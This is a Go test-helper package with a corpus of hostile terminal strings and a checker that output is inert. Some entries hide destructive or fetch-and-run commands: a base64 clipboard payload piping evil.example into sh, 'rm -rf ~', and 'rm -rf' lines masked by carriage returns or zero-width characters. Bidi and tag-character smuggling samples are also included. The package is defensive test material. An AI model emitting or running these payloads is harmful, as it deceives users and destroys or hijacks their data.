// Package termsafetest holds the hostile strings every sanitised path is
// tested with, and the check that output is inert. It is for tests only.
package termsafetest

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Case is one hostile string.
type Case struct {
	Name string
	Text string
}

// Corpus is what a model, a tool, a repository or a server could send to
// take over a terminal or mislead its reader.
var Corpus = []Case{
	{"osc52_clipboard", "copied \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 done"},
	{"osc52_st", "\x1b]52;p;cm0gLXJmIH4=\x1b\\after"},
	{"osc8_link", "see \x1b]8;;https://evil.example/x\x1b\\the docs\x1b]8;;\x1b\\ here"},
	{"osc0_title", "\x1b]0;sudo password required\x07title set"},
	{"csi_clear", "\x1b[2J\x1b[Hclean screen"},
	{"csi_cursor_up_erase", "Bash(*)\x1b[1A\x1b[2K\rharmless-linter --stdio"},
	{"dcs", "\x1bP+q544e\x1b\\ and \x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\"},
	{"c1_utf8", "\u009b2J\u009d0;c1 title\u009c\u0090dcs\u009c"},
	{"c1_raw_bytes", "\x9b2J\x9d0;raw\x9c"},
	{"bidi_trojan_source", "if access != \"user\u202e \u2066// admin\u2069 \u2066\" {"},
	{"zero_width", "rm\u200b -rf\u200d ./src\ufeff"},
	{"cr_overprint", "rm -rf src docs tests #\rgo test ./..."},
	{"backspace_bel_del", "safe\b\b\b\bevil\x07\x7f"},
	{"tag_characters", "ok\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065"},
	{"nul_and_controls", "a\x00b\x01c\x1fd"},
	{"very_long_line", strings.Repeat("A", 4000) + "\x1b[31mred\x1b[0m" + strings.Repeat("B", 4000)},
}

// All is the whole corpus in one text, one case per line.
func All() string {
	var b strings.Builder
	for _, c := range Corpus {
		b.WriteString(c.Name + ": " + c.Text + "\n")
	}
	return b.String()
}

// Inert returns an error describing the first byte sequence in out that a
// terminal would interpret: an escape (other than an SGR colour sequence
// when sgr is set), a C0 control other than newline and tab, DEL, a C1
// control (raw or UTF-8), a bidi embedding, override or isolate, a line or
// paragraph separator, or a tag character.
func Inert(out []byte, sgr bool) error {
	s := out
	for i := 0; i < len(s); {
		c := s[i]
		if c == 0x1b {
			if sgr {
				if n := sgrLen(s[i:]); n > 0 {
					i += n
					continue
				}
			}
			return fmt.Errorf("ESC at byte %d: %q", i, context(s, i))
		}
		if c < 0x20 && c != '\n' && c != '\t' || c == 0x7f {
			return fmt.Errorf("control byte 0x%02x at byte %d: %q", c, i, context(s, i))
		}
		if c < utf8.RuneSelf {
			i++
			continue
		}
		r, n := utf8.DecodeRune(s[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			return fmt.Errorf("byte 0x%02x (not UTF-8, a C1 control to 8-bit terminals) at byte %d: %q", c, i, context(s, i))
		case r >= 0x80 && r <= 0x9f:
			return fmt.Errorf("C1 control U+%04X at byte %d: %q", r, i, context(s, i))
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x2028, r == 0x2029, r >= 0xe0000 && r <= 0xe007f:
			return fmt.Errorf("U+%04X at byte %d: %q", r, i, context(s, i))
		}
		i += n
	}
	return nil
}

func sgrLen(s []byte) int {
	if len(s) < 3 || s[1] != '[' {
		return 0
	}
	for i := 2; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= '0' && c <= '9', c == ';', c == ':':
		case c == 'm':
			return i + 1
		default:
			return 0
		}
	}
	return 0
}

func context(s []byte, i int) string {
	lo, hi := max(i-20, 0), min(i+20, len(s))
	return string(s[lo:hi])
}
